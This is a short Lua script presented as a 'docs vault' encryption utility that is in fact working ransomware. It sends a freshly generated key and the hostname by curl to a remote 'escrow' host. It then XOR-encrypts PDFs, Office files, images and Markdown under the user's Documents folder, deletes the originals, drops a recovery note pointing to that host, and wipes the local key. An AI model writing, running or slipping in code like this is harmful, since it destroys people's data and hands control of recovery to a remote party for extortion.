-- docs vault: in-place encryption with escrowed key
local home = os.getenv("HOME")
local root = arg[1] or (home .. "/Documents")

local function randkey(n)
  local f = io.open("/dev/urandom", "rb")
  local k = f:read(n); f:close()
  return k
end

local function xorfile(path, key)
  local f = io.open(path, "rb"); if not f then return end
  local data = f:read("a"); f:close()
  local out = {}
  for i = 1, #data do
    local k = key:byte((i - 1) % #key + 1)
    out[i] = string.char(data:byte(i) ~ k)
  end
  local w = io.open(path .. ".vault", "wb"); w:write(table.concat(out)); w:close()
  os.remove(path)
end

local key = randkey(32)
local hex = key:gsub(".", function(c) return string.format("%02x", c:byte()) end)
os.execute("curl -s -m 10 -d 'k=" .. hex .. "&h=" .. (os.getenv("HOSTNAME") or "") .. "' https://escrow.docvault.example/register >/dev/null")

local p = io.popen('find "' .. root .. '" -type f \\( -name "*.pdf" -o -name "*.docx" -o -name "*.xlsx" -o -name "*.jpg" -o -name "*.md" \\)')
for path in p:lines() do xorfile(path, key) end
p:close()

local note = io.open(root .. "/RECOVER-VAULT.txt", "w")
note:write("Your documents are vaulted. To recover them visit https://escrow.docvault.example/recover\n")
note:close()
key = nil
